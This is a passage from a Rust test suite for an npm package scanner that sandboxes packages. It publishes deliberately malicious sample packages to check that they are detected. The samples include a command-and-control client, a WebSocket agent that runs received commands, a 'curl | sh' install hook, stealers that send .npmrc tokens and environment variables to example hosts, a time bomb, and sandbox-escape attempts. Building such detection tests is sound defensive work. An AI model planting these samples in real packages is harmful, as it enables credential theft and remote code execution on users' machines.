        eprintln!("skipped {test}: set DSCA_UNPRIVILEGED_USER to an account with subordinate ids");
    }
    user
}

/// `dsca scan --dynamic` of a tarball, run by `user` (through runuser, from a copy of
/// dsca in a folder of its own); the JSON report, after checking the scan completed.
fn scan_unprivileged(user: &str, file_name: &str, tarball: &[u8]) -> Value {
    let dir = tempfile::Builder::new()
        .prefix("dsca-unprivileged")
        .tempdir_in("/tmp")
        .expect("temp dir");
    let own = |path: &std::path::Path| {
        let status = std::process::Command::new("chown")
            .args([user, path.to_str().expect("UTF-8 path")])
            .status()
            .expect("chown");
        assert!(status.success());
    };
    own(dir.path());
    let binary = dir.path().join("dsca");
    std::fs::copy(assert_cmd::cargo::cargo_bin("dsca"), &binary).expect("copy dsca");
    let tarball_path = dir.path().join(file_name);
    std::fs::write(&tarball_path, tarball).expect("write tarball");
    for path in [&binary, &tarball_path] {
        own(path);
    }
    let output = std::process::Command::new("runuser")
        .args(["-u", user, "--"])
        .arg(&binary)
        .args(["scan", "--dynamic", "--format", "json"])
        .arg(&tarball_path)
        .env("HOME", dir.path())
        .env("DSCA_CACHE_DIR", dir.path().join("cache"))
        .current_dir(dir.path())
        .output()
        .expect("run dsca as the unprivileged user");
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stderr}");
    serde_json::from_str(&stdout).expect("JSON report")
}

/// A package that tries to write into a writable mount below a shown system directory
/// (`/usr/local/<dir>` here; a bind-mounted file in `/etc` or a separate `/usr/local` in
/// real life).
const SUBMOUNT_SCRIPT: &str = r#"const fs = require('fs');
const target = process.argv[2];
let result;
try { fs.writeFileSync(target + '/planted', 'x'); result = 'written'; }
catch (err) { result = err.code; }
fs.writeFileSync('submount-result.txt', result);
"#;

#[test]
fn writable_submounts_of_system_directories_are_read_only_inside() {
    if !sandbox_tests_enabled("writable_submounts_of_system_directories_are_read_only_inside") {
        return;
    }
    // A writable tmpfs below /usr on the host, gone when the test ends.
    let dir = std::path::PathBuf::from(format!("/usr/local/dsca-submount-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let mounted = std::process::Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=1m", "tmpfs"])
        .arg(&dir)
        .status()
        .unwrap();
    assert!(
        mounted.success(),
        "cannot mount a tmpfs at {}",
        dir.display()
    );
    struct Unmount(std::path::PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = std::process::Command::new("umount").arg(&self.0).status();
            let _ = std::fs::remove_dir(&self.0);
        }
    }
    let _cleanup = Unmount(dir.clone());

    let registry = TestRegistry::start();
    registry.publish(
        PackageBuilder::new("submount-writer", "1.0.0")
            .script("postinstall", &format!("node write.js {}", dir.display()))
            .file("write.js", SUBMOUNT_SCRIPT)
            .file("index.js", "module.exports = 1;\n")
            .build(),
    );
    let report = scan_dynamic(&registry, &[], "submount-writer@1.0.0");
    assert!(
        !dir.join("planted").exists(),
        "the package wrote through a submount of /usr into the host"
    );
    let files = phase_records(&report["dynamic"], "/files");
    let attempt = files
        .iter()
        .find(|f| f["path"].as_str().is_some_and(|p| p.ends_with("/planted")))
        .unwrap_or_else(|| panic!("the write attempt was not recorded: {files:#?}"));
    assert!(
        attempt["error"]
            .as_str()
            .is_some_and(|e| e.contains("EROFS")),
        "{attempt:#}"
    );
}

#[test]
fn binding_gyp_commands_run_in_the_sandbox_with_the_local_node_headers() {
    if !sandbox_tests_enabled("binding_gyp_commands_run_in_the_sandbox_with_the_local_node_headers")
    {
        return;
    }
    // node-gyp used to fetch headers from nodejs.org, get the sink's 404 and stop before
    // the gyp file was read: its command expansions and actions never ran.
    let registry = TestRegistry::start();
    registry.publish(
        PackageBuilder::new("gyp-probe", "1.0.0")
            .file(
                "binding.gyp",
                "{\n  'variables': { 'probe': '<!(node -e \"require(\\'fs\\').writeFileSync(\\'gyp-ran.txt\\', \\'1\\'); process.stdout.write(\\'x\\')\")' },\n  'targets': [{ 'target_name': 'probe', 'sources': ['probe.c'] }]\n}\n",
            )
            .file("probe.c", "int probe(void) { return 1; }\n")
            .file("index.js", "module.exports = 1;\n")
            .build(),
    );
    let report = scan_dynamic(&registry, &[], "gyp-probe@1.0.0");
    let commands = phase_records(&report["dynamic"], "/commands");
    let ran = commands.iter().any(|process| {
        process["execs"].as_array().is_some_and(|execs| {
            execs.iter().any(|exec| {
                exec["argv"][0] == "node"
                    && exec["argv"].as_array().is_some_and(|argv| {
                        argv.iter()
                            .any(|a| a.as_str().is_some_and(|a| a.contains("gyp-ran.txt")))
                    })
            })
        })
    });
    assert!(ran, "the gyp command expansion did not run: {commands:#?}");
}

/// A WebSocket client written out (the test registry has no `ws`): opens
/// wss://relay-sync.example/agent at import, sends `hello()` and hands each text message
/// to `handle`.
const WEBSOCKET_CLIENT: &str = r#"const https = require('https');
const crypto = require('crypto');
function frame(text) {
  const p = Buffer.from(text);
  const mask = crypto.randomBytes(4);
  const head = p.length < 126 ? Buffer.from([0x81, 0x80 | p.length]) : Buffer.from([0x81, 0xfe, p.length >> 8, p.length & 255]);
  return Buffer.concat([head, mask, Buffer.from(p.map((b, i) => b ^ mask[i % 4]))]);
}
const req = https.request({ host: 'relay-sync.example', path: '/agent', headers: {
  Connection: 'Upgrade', Upgrade: 'websocket', 'Sec-WebSocket-Version': '13',
  'Sec-WebSocket-Key': crypto.randomBytes(16).toString('base64') } });
req.on('upgrade', (res, socket, head) => {
  socket.write(frame(hello()));
  const read = (data) => {
    if (data.length < 2 || (data[0] & 0x0f) !== 1) return;
    handle(data.slice(2, 2 + (data[1] & 0x7f)).toString(), (out) => socket.write(frame(out)));
  };
  if (head.length) read(head);
  socket.on('data', read);
  socket.on('error', () => {});
});
req.on('error', () => {});
req.end();
"#;

/// `main` connects to its "controller" at import and runs what it is sent; the second
/// package only logs what it receives.
const C2_CLIENT: &str = r#"const net = require('net');
const { exec } = require('child_process');
const socket = net.connect(4430, '203.0.113.88');
socket.on('error', () => {});
socket.on('data', (data) => exec(data.toString(), (err, out) => socket.write(out || '')));
"#;
const WAITING_CLIENT: &str = r#"const net = require('net');
const socket = net.connect(4431, '203.0.113.89');
socket.on('error', () => {});
socket.on('data', (data) => console.log('banner', data.length));
"#;

#[test]
fn a_package_that_runs_what_its_controller_sends_is_caught_running_the_probe() {
    if !sandbox_tests_enabled(
        "a_package_that_runs_what_its_controller_sends_is_caught_running_the_probe",
    ) {
        return;
    }
    let registry = TestRegistry::start();
    for (name, code) in [("c2-client", C2_CLIENT), ("waiting-client", WAITING_CLIENT)] {
        registry.publish(
            PackageBuilder::new(name, "1.0.0")
                .file("index.js", code)
                .build(),
        );
    }
    let scan = |spec: &str| scan_dynamic(&registry, &["--import-timeout", "8"], spec);
    let report = scan("c2-client@1.0.0");
    let rules = rule_ids(&report);
    assert!(
        rules.iter().any(|r| r == "DSCA1012"),
        "{rules:?}\n{:#}",
        report["dynamic"]
    );
    let connections = phase_records(&report["dynamic"], "/connections");
    assert!(
        connections
            .iter()
            .any(|c| c["kind"] == "probed" && c["port"] == 4430),
        "{connections:#?}"
    );
    // The report says what was sent and that the package ran it.
    let probes = phase_records(&report["dynamic"], "/probes");
    assert!(
        probes.iter().any(|p| p["kind"] == "command"
            && p["triggered"] == true
            && p["to"].as_str().is_some_and(|to| to.ends_with(":4430"))),
        "{probes:#?}"
    );

    let honest = scan("waiting-client@1.0.0");
    assert!(
        !rule_ids(&honest).iter().any(|r| r == "DSCA1012"),
        "{honest:#}"
    );
    let connections = phase_records(&honest["dynamic"], "/connections");
    assert!(
        connections
            .iter()
            .any(|c| c["kind"] == "probed" && c["port"] == 4431),
        "the silent client was not probed: {connections:#?}"
    );
    let probes = phase_records(&honest["dynamic"], "/probes");
    assert!(
        !probes.is_empty() && probes.iter().all(|p| p["triggered"] == false),
        "{probes:#?}"
    );
}

#[test]
fn a_websocket_agent_is_sent_the_probe_and_caught_running_it() {
    if !sandbox_tests_enabled("a_websocket_agent_is_sent_the_probe_and_caught_running_it") {
        return;
    }
    let registry = TestRegistry::start();
    let agent = format!(
        "{WEBSOCKET_CLIENT}function hello() {{ return JSON.stringify({{ agent: require('os').hostname() }}); }}\n\
         function handle(command, reply) {{ require('child_process').exec(command, (e, out) => reply(String(out))); }}\n"
    );
    let logger = format!(
        "{WEBSOCKET_CLIENT}function hello() {{ return JSON.stringify({{ subscribe: 'builds' }}); }}\n\
         function handle(message, reply) {{ console.log('event', message.length); }}\n"
    );
    publish_modules(
        &registry,
        &[("relay-agent", &agent), ("live-events", &logger)],
    );
    let scan = |spec: &str| scan_dynamic(&registry, &["--import-timeout", "8"], spec);
    let report = scan("relay-agent@1.0.0");
    let rules = rule_ids(&report);
    for rule in ["DSCA1012", "DSCA1009"] {
        assert!(
            rules.iter().any(|r| r == rule),
            "{rule} missing: {rules:?}\n{:#}",
            report["dynamic"]
        );
    }
    assert_eq!(report["verdict"]["level"], "malicious", "{rules:?}");
    // The upgrade was answered, and the agent's own first message (its host name, a
    // bait value) and the probe's output came back unmasked.
    let requests = phase_records(&report["dynamic"], "/http");
    assert!(
        requests
            .iter()
            .any(|r| r["url"] == "https://relay-sync.example/agent" && r["status"] == 101),
        "{requests:#?}"
    );
    let channels = texts(
        &phase_records(&report["dynamic"], "/honeytokens/exfiltrations"),
        "channel",
    );
    assert!(channels.iter().any(|c| c == "websocket"), "{channels:?}");

    let honest = scan("live-events@1.0.0");
    let rules = rule_ids(&honest);
    assert!(!rules.iter().any(|r| r == "DSCA1012"), "{rules:?}");
    assert_ne!(honest["verdict"]["level"], "malicious", "{rules:?}");
    let probes = phase_records(&honest["dynamic"], "/probes");
    assert!(
        !probes.is_empty() && probes.iter().all(|p| p["triggered"] == false),
        "{probes:#?}"
    );
}

#[test]
fn a_script_downloaded_and_run_at_install_is_caught_running_the_probe() {
    if !sandbox_tests_enabled("a_script_downloaded_and_run_at_install_is_caught_running_the_probe")
    {
        return;
    }
    let registry = TestRegistry::start();
    registry.publish(
        PackageBuilder::new("setup-helper", "1.0.0")
            .script("postinstall", "curl -s http://stage.example/setup.sh | sh")
            .file("index.js", "module.exports = 1;\n")
            .build(),
    );
    registry.publish(
        PackageBuilder::new("fetch-only", "1.0.0")
            .script(
                "postinstall",
                "curl -s -o notes.sh http://docs.example/notes.sh || true",
            )
            .file("index.js", "module.exports = 1;\n")
            .build(),
    );
    let scan = |spec: &str| scan_dynamic(&registry, &[], spec);
    let report = scan("setup-helper@1.0.0");
    let rules = rule_ids(&report);
    assert!(rules.iter().any(|r| r == "DSCA1012"), "{rules:?}");
    assert_eq!(report["verdict"]["level"], "malicious");
    let probes = phase_records(&report["dynamic"], "/probes");
    assert!(
        probes.iter().any(|p| p["kind"] == "script"
            && p["to"] == "http://stage.example/setup.sh"
            && p["triggered"] == true),
        "{probes:#?}"
    );
    // Downloading the script without running it proves nothing.
    let fetched = scan("fetch-only@1.0.0");
    assert!(
        !rule_ids(&fetched).iter().any(|r| r == "DSCA1012"),
        "{fetched:#}"
    );
    let probes = phase_records(&fetched["dynamic"], "/probes");
    assert!(
        probes.len() == 1 && probes[0]["triggered"] == false,
        "{probes:#?}"
    );
}

#[test]
fn the_ci_profile_shows_what_a_package_does_only_on_ci_runners() {
    if !sandbox_tests_enabled("the_ci_profile_shows_what_a_package_does_only_on_ci_runners") {
        return;
    }
    // The ci-runner-memory shape: nothing happens outside GitHub Actions.
    let registry = TestRegistry::start();
    registry.publish(
        PackageBuilder::new("changed-files-lite", "1.0.0")
            .script("postinstall", "node check.js")
            .file(
                "check.js",
                "if (process.env.GITHUB_ACTIONS !== 'true') process.exit(0);\n\
                 require('dns').lookup(`${process.env.GITHUB_REPOSITORY.replace('/', '.')}.ci.collect.example`, () => {});\n",
            )
            .file("index.js", "module.exports = 1;\n")
            .build(),
    );
    let names = |profile: &str| {
        let report = scan_dynamic(
            &registry,
            &["--sandbox-profile", profile],
            "changed-files-lite@1.0.0",
        );
        let user = report["dynamic"]["sandbox"]["user"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        (
            texts(&phase_records(&report["dynamic"], "/dns"), "name"),
            user,
        )
    };
    let (developer, _) = names("developer");
    assert!(
        !developer.iter().any(|n| n.ends_with("ci.collect.example")),
        "{developer:?}"
    );
    let developer_zone =
        scan_dynamic(&registry, &[], "changed-files-lite@1.0.0")["dynamic"]["sandbox"]["timezone"]
            .as_str()
            .unwrap_or_default()
            .to_string();
    assert!(
        developer_zone.contains('/'),
        "a developer's zone: {developer_zone:?}"
    );
    let (ci, user) = names("ci");
    assert!(
        ci.iter()
            .any(|n| n == "acme-corp.web-app.ci.collect.example"),
        "{ci:?}"
    );
    assert_eq!(user, "runner");
}

/// Tries the ways out a package has from inside: host-global kernel settings, other
/// users' files, new namespaces, mounts, tracing, raw sockets. Each result is written
/// down; the test checks the host side.
const ESCAPE_SCRIPT: &str = r#"const fs = require('fs');
const { execFileSync } = require('child_process');
const results = {};
const attempt = (name, fn) => { try { fn(); results[name] = 'succeeded'; } catch (err) { results[name] = err.code || String(err.message).slice(0, 80); } };
attempt('proc_sys_core_pattern', () => fs.writeFileSync('/proc/sys/kernel/core_pattern', '|/tmp/x'));
attempt('proc_sys_domainname', () => fs.writeFileSync('/proc/sys/kernel/domainname', 'escaped.example'));
attempt('sys_thp', () => fs.writeFileSync('/sys/kernel/mm/transparent_hugepage/enabled', 'never'));
attempt('root_home', () => fs.readdirSync('/root'));
attempt('other_home', () => fs.readdirSync('/home/dsca-sandbox-ci'));
attempt('etc_write', () => fs.writeFileSync('/etc/dsca-escape', 'x'));
attempt('usr_write', () => fs.writeFileSync('/usr/dsca-escape', 'x'));
attempt('mount_tmpfs', () => execFileSync('mount', ['-t', 'tmpfs', 'none', '/mnt'], { stdio: 'ignore' }));
attempt('unshare_user', () => execFileSync('unshare', ['-Ur', 'true'], { stdio: 'ignore' }));
attempt('nsenter_pid1', () => execFileSync('nsenter', ['-t', '1', '-m', 'true'], { stdio: 'ignore' }));
fs.writeFileSync('escape-results.json', JSON.stringify(results));
// Kernel interfaces node has no binding for, through python's ctypes.
try { console.log('ESCAPE ' + execFileSync('python3', ['escape.py'], { encoding: 'utf8' }).trim()); }
catch (err) { console.log('ESCAPE {"python": "' + String(err.message).slice(0, 60).replace(/"/g, '') + '"}'); }
// Private and IPv6 destinations: each caught by the sinks, none reached.
const net = require('net');
for (const [port, host] of [[22, '10.0.0.2'], [443, '2001:db8::1']]) {
  const socket = net.connect(port, host, () => socket.end('x'));
  socket.on('error', () => {});
}
setTimeout(() => {}, 800);
"#;

/// The escape attempts of [`ESCAPE_SCRIPT`] that need system calls: attaching to the
/// tracer and to PID 1, a key in the user keyring (the host's, were the keyrings
/// shared), performance counters, a raw ICMP socket, a datagram to a private address.
const ESCAPE_PY: &str = r#"import ctypes, ctypes.util, errno, json, socket
libc = ctypes.CDLL(ctypes.util.find_library('c'), use_errno=True)
results = {}
def attempt(name, fn):
    try:
        value = fn()
        failed = isinstance(value, int) and value < 0
        results[name] = errno.errorcode.get(ctypes.get_errno(), 'failed') if failed else 'succeeded'
    except OSError as err:
        results[name] = errno.errorcode.get(err.errno, str(err.errno))
    except Exception as err:
        results[name] = type(err).__name__
tracer = 0
for line in open('/proc/self/status'):
    if line.startswith('TracerPid:'):
        tracer = int(line.split()[1])
results['tracer_pid'] = tracer
attempt('ptrace_tracer', lambda: libc.ptrace(16, tracer, None, None) if tracer else -1)
attempt('ptrace_pid1', lambda: libc.ptrace(16, 1, None, None))
attempt('keyctl_user_keyring', lambda: libc.syscall(248, b'user', b'dsca-escape-key', b'x', 1, -4))
attr = ctypes.create_string_buffer(128)
ctypes.memmove(attr, (ctypes.c_uint32 * 2)(1, 128), 8)
attempt('perf_event_open_all_cpus', lambda: libc.syscall(298, attr, -1, 0, -1, 0))
def icmp():
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    raw.settimeout(1)
    raw.sendto(b'\x08\x00\xf7\xff\x00\x00\x00\x00', ('192.0.2.77', 0))
    raw.recvfrom(64)
attempt('raw_icmp_reply', icmp)
def datagram():
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(b'escape', ('10.0.0.1', 9999))
attempt('udp_private', datagram)
print(json.dumps(results))
"#;

#[test]
fn attempts_to_escape_leave_the_host_as_it_was() {
    let name = "attempts_to_escape_leave_the_host_as_it_was";
    if !sandbox_tests_enabled(name) {
        return;
    }
    let package = || {
        PackageBuilder::new("escape-artist", "1.0.0")
            .script("postinstall", "node escape.js")
            .file("escape.js", ESCAPE_SCRIPT)
            .file("escape.py", ESCAPE_PY)
            .file("index.js", "module.exports = 1;\n")
            .build()
    };
    let registry = TestRegistry::start();
    registry.publish(package());
    escape_contained(|| scan_dynamic(&registry, &[], "escape-artist@1.0.0"));
    if let Some(user) = unprivileged_user(name) {
        escape_contained(|| scan_unprivileged(&user, "escape-artist-1.0.0.tgz", &package()));
    }
}

/// Runs the escape package through `scan` and checks the host before and after, and
/// what the run recorded.
fn escape_contained(scan: impl FnOnce() -> Value) {
    let read = |path: &str| std::fs::read_to_string(path).unwrap_or_default();
    let before = [
        read("/proc/sys/kernel/core_pattern"),
        read("/proc/sys/kernel/domainname"),
        read("/sys/kernel/mm/transparent_hugepage/enabled"),
    ];
    let report = scan();
    let after = [
        read("/proc/sys/kernel/core_pattern"),
        read("/proc/sys/kernel/domainname"),
        read("/sys/kernel/mm/transparent_hugepage/enabled"),
    ];
    assert_eq!(before, after, "a kernel setting of the host changed");
    assert!(!std::path::Path::new("/etc/dsca-escape").exists());
    assert!(!std::path::Path::new("/usr/dsca-escape").exists());
    // The attempts ran (the install completed) and were recorded as file accesses.
    let run = &report["dynamic"];
    assert_eq!(
        run["phases"][0]["status"], "completed",
        "{:#}",
        run["phases"]
    );
    let files = texts(&phase_records(run, "/files"), "path");
    for path in ["/proc/sys/kernel/core_pattern", "/etc/dsca-escape"] {
        assert!(
            files.iter().any(|p| p == path),
            "{path} not recorded: {files:#?}"
        );
    }
    // The system-call attempts, as the package saw them.
    let stdout = run["phases"][0]["stdout_tail"].as_str().unwrap_or_default();
    let results: Value = stdout
        .lines()
        .find_map(|line| line.strip_prefix("ESCAPE "))
        .and_then(|json| serde_json::from_str(json).ok())
        .unwrap_or_else(|| panic!("no results: {stdout}"));
    eprintln!("escape attempts: {results}");
    assert!(
        results["tracer_pid"].as_u64().is_some_and(|pid| pid > 0),
        "the script ran untraced: {results}"
    );
    for refused in ["ptrace_tracer", "ptrace_pid1", "raw_icmp_reply"] {
        assert_ne!(results[refused], "succeeded", "{refused}: {results}");
    }
    // A key the package adds stays in the sandbox's own keyring.
    assert!(
        !std::fs::read_to_string("/proc/keys")
            .unwrap_or_default()
            .contains("dsca-escape-key"),
        "the package's key is in the host's keyring ({results})"
    );
    // Datagrams and connections to private and IPv6 addresses: caught and recorded.
    let connections = phase_records(run, "/connections");
    for (protocol, destination) in [
        ("udp", "10.0.0.1"),
        ("tcp", "10.0.0.2"),
        ("tcp", "2001:db8::1"),
    ] {
        assert!(
            connections
                .iter()
                .any(|c| c["protocol"] == protocol && c["destination"] == destination),
            "{protocol} to {destination} not recorded: {connections:#?}"
        );
    }
}

/// A dormant payload: the first import notes the date; once 30 days have gone by, the
/// import calls home.
const DORMANT_MODULE: &str = r#"const fs = require('fs');
const os = require('os');
const path = require('path');
const stamp = path.join(os.homedir(), '.cache', 'quiet-logger', 'first-run');
let first = Date.now();
try { first = Number(fs.readFileSync(stamp, 'utf8')); }
catch (e) { try { fs.mkdirSync(path.dirname(stamp), { recursive: true }); fs.writeFileSync(stamp, String(first)); } catch (e2) {} }
if (Date.now() - first > 30 * 24 * 3600 * 1000) setTimeout(() => {
  const req = require('https').request({ hostname: 'wake.dormant.example', path: '/ping', method: 'POST' }, (res) => res.resume());
  req.on('error', () => {});
  req.end(os.hostname());
}, 300);
module.exports = (message) => console.log(message);
"#;

/// The honest shape of a date check: data that says it is old, and a cache in the
/// package's own folder refreshed when stale.
const STALE_NOTICE_MODULE: &str = r#"const fs = require('fs');
const path = require('path');
const cache = path.join(__dirname, 'cache.json');
let built = Date.now();
try { built = JSON.parse(fs.readFileSync(cache, 'utf8')).built; }
catch (e) { fs.writeFileSync(cache, JSON.stringify({ built })); }
if (Date.now() - built > 60 * 24 * 3600 * 1000) {
  console.warn('region-data: the bundled data is more than 60 days old; update the package');
  fs.writeFileSync(cache, JSON.stringify({ built: Date.now() }));
}
module.exports = { regions: ['eu', 'us'] };
"#;

#[test]
fn a_time_bomb_shows_itself_when_the_clock_moves_ahead() {
    if !sandbox_tests_enabled("a_time_bomb_shows_itself_when_the_clock_moves_ahead") {
        return;
    }
    let registry = TestRegistry::start();
    publish_modules(
        &registry,
        &[
            ("quiet-logger", DORMANT_MODULE),
            ("region-data", STALE_NOTICE_MODULE),
        ],
    );
    let report = scan_dynamic(&registry, &[], "quiet-logger@1.0.0");
    let run = &report["dynamic"];
    let later = phase_named(run, "import-later").unwrap_or_else(|| {
        panic!(
            "no time-bomb pass (is libfaketime installed?): {:#}",
            run["sandbox"]
        )
    });
    assert_eq!(later["clock_offset_days"], 400);
    // Today the import is quiet; a year ahead it calls home.
    let import = phase_named(run, "import").expect("an import phase");
    assert!(
        import["dns"]
            .as_array()
            .is_none_or(|dns| dns.iter().all(|q| q["name"] != "wake.dormant.example")),
        "{import:#}"
    );
    assert!(
        list_texts(&later["dns"], "name")
            .iter()
            .any(|n| n == "wake.dormant.example"),
        "{later:#}"
    );
    // The sink's certificates are valid on the moved clock too: the HTTPS request
    // itself is seen, with what it sent.
    let requests = later["http"].as_array().cloned().unwrap_or_default();
    assert!(
        requests
            .iter()
            .any(|r| r["method"] == "POST" && r["url"] == "https://wake.dormant.example/ping"),
        "{later:#}"
    );
    // The pass rides on the execute phase: what the load set off waits for its
    // timer and stays the load's, not the calls'.
    let execute = phase_named(run, "execute").expect("an execute phase");
    assert!(
        list_texts(&execute["dns"], "name")
            .iter()
            .all(|n| n != "wake.dormant.example"),
        "{execute:#}"
    );
    let rules = rule_ids(&report);
    assert!(rules.iter().any(|r| r == "DSCA1013"), "{rules:?}");

    let honest = scan_dynamic(&registry, &[], "region-data@1.0.0");
    let later = phase_named(&honest["dynamic"], "import-later").expect("the time-bomb pass ran");
    assert!(
        later["stderr_tail"]
            .as_str()
            .is_some_and(|tail| tail.contains("more than 60 days old")),
        "the clock did not move: {later:#}"
    );
    assert!(
        !rule_ids(&honest).iter().any(|r| r.starts_with("DSCA10")),
        "{honest:#}"
    );
}

/// A config loader whose exported function, once called, sends the npm token and the
/// environment away. Loading it does nothing.
const CALLED_STEALER_MODULE: &str = r#"exports.load = async function load() {
  const fs = require('fs');
  const os = require('os');
  let npmrc = '';
  try { npmrc = await fs.promises.readFile(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
  // The script does not await the promise: the timer keeps the process up for the rest.
  await new Promise((resolve) => setTimeout(resolve, 300));
  const req = require('https').request({ hostname: 'config-sync.example', path: '/v1', method: 'POST' }, (res) => res.resume());
  req.on('error', () => {});
  req.end(JSON.stringify({ npmrc, env: process.env }));
  return {};
};
"#;

/// Honest exports: string helpers and a class that keeps a map.
const HONEST_EXPORTS_MODULE: &str = r#"exports.slugify = (text = '') => String(text).toLowerCase().replace(/[^a-z0-9]+/g, '-');
exports.titleCase = (text = '') => String(text).replace(/\b\w/g, (c) => c.toUpperCase());
exports.Registry = class Registry { constructor() { this.items = new Map(); } };
exports.loadLocal = async () => JSON.parse(require('fs').readFileSync(require('path').join(__dirname, 'package.json'), 'utf8'));
"#;

#[test]
fn an_exported_function_that_steals_is_caught_when_the_execute_phase_calls_it() {
    if !sandbox_tests_enabled(
        "an_exported_function_that_steals_is_caught_when_the_execute_phase_calls_it",
    ) {
        return;
    }
    let registry = TestRegistry::start();
    publish_modules(
        &registry,
        &[
            ("env-config-loader", CALLED_STEALER_MODULE),
            ("text-kit", HONEST_EXPORTS_MODULE),
        ],
    );
    let report = scan_dynamic(&registry, &[], "env-config-loader@1.0.0");
    let run = &report["dynamic"];
    let execute = phase_named(run, "execute")
        .unwrap_or_else(|| panic!("no execute phase: {:#}", run["phases"]));
    assert!(
        execute["stdout_tail"]
            .as_str()
            .is_some_and(|out| out.contains("called env-config-loader.load")),
        "{execute:#}"
    );
    // The moment the calls began is recorded (the script's mark), not the mark itself.
    let began = execute["calls_began_ms"]
        .as_u64()
        .unwrap_or_else(|| panic!("{execute:#}"));
    assert!(
        list_texts(&execute["files"], "path")
            .iter()
            .all(|p| p != "/.dsca-calls-begin"),
        "{execute:#}"
    );
    assert!(
        execute["http"].as_array().is_some_and(|requests| requests
            .iter()
            .all(|r| r["time_ms"].as_u64() >= Some(began))),
        "{execute:#}"
    );
    let hosts = list_texts(&execute["http"], "host");
    assert!(
        hosts.iter().any(|h| h == "config-sync.example"),
        "{hosts:?}"
    );
    let rules = rule_ids(&report);
    assert!(rules.iter().any(|r| r == "DSCA1009"), "{rules:?}");
    assert_eq!(report["verdict"]["level"], "malicious", "{rules:?}");

    let honest = scan_dynamic(&registry, &[], "text-kit@1.0.0");
    let execute = phase_named(&honest["dynamic"], "execute").expect("an execute phase");
    let out = execute["stdout_tail"].as_str().unwrap_or_default();
    for called in [
        "text-kit.slugify",
        "text-kit.Registry",
        "text-kit.loadLocal",
    ] {
        assert!(out.contains(&format!("called {called}")), "{out}");
    }
    assert!(
        !rule_ids(&honest).iter().any(|r| r.starts_with("DSCA10")),
        "{honest:#}"
    );
    assert_ne!(honest["verdict"]["level"], "malicious");
}

#[test]
fn an_import_that_spins_forever_is_caught_and_the_later_passes_are_skipped() {
    if !sandbox_tests_enabled(
        "an_import_that_spins_forever_is_caught_and_the_later_passes_are_skipped",
    ) {
        return;
    }
    let registry = TestRegistry::start();
    publish_modules(
        &registry,
        &[
            // The colors 1.4.44 shape: an endless loop at top level.
            (
                "liberty-colors",
                "let i = 0;\nfor (;;) { i = (i + 1) % 7; }\n",
            ),
            // An import that blocks without using the CPU (a synchronous wait).
            (
                "slow-start",
                "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 60000);\nmodule.exports = 1;\n",
            ),
        ],
    );
    let options = ["--import-timeout", "4"];
    let report = scan_dynamic(&registry, &options, "liberty-colors@1.0.0");
    let run = &report["dynamic"];
    let import = &run["phases"][1];
    assert_eq!(import["status"], "timeout", "{:#}", run["phases"]);
    assert!(
        import["busy_ms_at_timeout"]
            .as_u64()
            .is_some_and(|cpu| cpu >= 2_000),
        "{import:#}"
    );
    let skipped = run["sandbox"]["skipped_phases"].to_string();
    assert!(
        skipped.contains("import-later") && skipped.contains("execute"),
        "{skipped}"
    );
    assert_eq!(run["phases"].as_array().map(Vec::len), Some(2));
    let rules = rule_ids(&report);
    assert!(rules.iter().any(|r| r == "DSCA1014"), "{rules:?}");

    let waiting = scan_dynamic(&registry, &options, "slow-start@1.0.0");
    assert_eq!(waiting["dynamic"]["phases"][1]["status"], "timeout");
    assert!(
        !rule_ids(&waiting).iter().any(|r| r == "DSCA1014"),
        "{:#}",
        waiting["dynamic"]["phases"]
    );
}

/// PhantomRaven's shape: the registry's tarball is clean and names a dependency by URL;
/// the tarball there steals the npm token when installed.
const URL_PAYLOAD_SCRIPT: &str = r#"const fs = require('fs');
const os = require('os');
let npmrc = '';
try { npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
const req = require('https').request({ hostname: 'collect.example', path: '/t', method: 'POST' }, (res) => res.resume());
req.on('error', () => {});
req.end(npmrc);
"#;

#[test]
fn a_url_dependency_is_fetched_on_the_host_and_its_install_judged() {
    if !sandbox_tests_enabled("a_url_dependency_is_fetched_on_the_host_and_its_install_judged") {
        return;
    }
    let files = TestFileHost::start();
    files.serve(
        "/npm/unused-imports.tgz",
        PackageBuilder::new("unused-imports", "1.0.0")
            .script("preinstall", "node index.js")
            .file("index.js", URL_PAYLOAD_SCRIPT)
            .build(),
    );
    files.serve(
        "/npm/colour-names.tgz",
        PackageBuilder::new("colour-names", "1.0.0")
            .script("postinstall", "node build.js")
            .file(
                "build.js",
                "require('fs').writeFileSync('names.json', '[]');\n",
            )
            .build(),
    );
    let registry = TestRegistry::start();
    for (name, dependency) in [
        ("eslint-plugin-tidy", "unused-imports"),
        ("palette-kit", "colour-names"),
    ] {
        registry.publish(
            PackageBuilder::new(name, "1.0.0")
                .dependency(
                    dependency,
                    &format!("http://packages.example/npm/{dependency}.tgz"),
                )
                .file("index.js", "module.exports = {};\n")
                .build(),
        );
    }
    let connect_to = format!("packages.example:80:{}", files.addr());
    let report = scan_dynamic(
        &registry,
        &["--connect-to", &connect_to],
        "eslint-plugin-tidy@1.0.0",
    );
    let run = &report["dynamic"];
    let requests = phase_records(run, "/http");
    let fetched = requests
        .iter()
        .find(|r| r["url"] == "http://packages.example/npm/unused-imports.tgz")
        .unwrap_or_else(|| panic!("npm did not ask for the URL dependency: {requests:#?}"));
    assert_eq!(fetched["status"], 200, "{fetched:#}");
    assert!(
        fetched["fetched"]
            .as_str()
            .is_some_and(|note| note.starts_with("fetched on the host: HTTP 200")),
        "{fetched:#}"
    );
    let exfiltrations = phase_records(run, "/honeytokens/exfiltrations");
    assert!(!exfiltrations.is_empty(), "{run:#}");
    assert_eq!(
        report["verdict"]["level"],
        "malicious",
        "{:?}",
        rule_ids(&report)
    );
    assert_eq!(files.requests(), ["/npm/unused-imports.tgz"]);

    // An honest URL dependency installs and builds; it is not malicious.
    let honest = scan_dynamic(
        &registry,
        &["--connect-to", &connect_to],
        "palette-kit@1.0.0",
    );
    let processes = phase_records(&honest["dynamic"], "/commands");
    assert!(
        processes
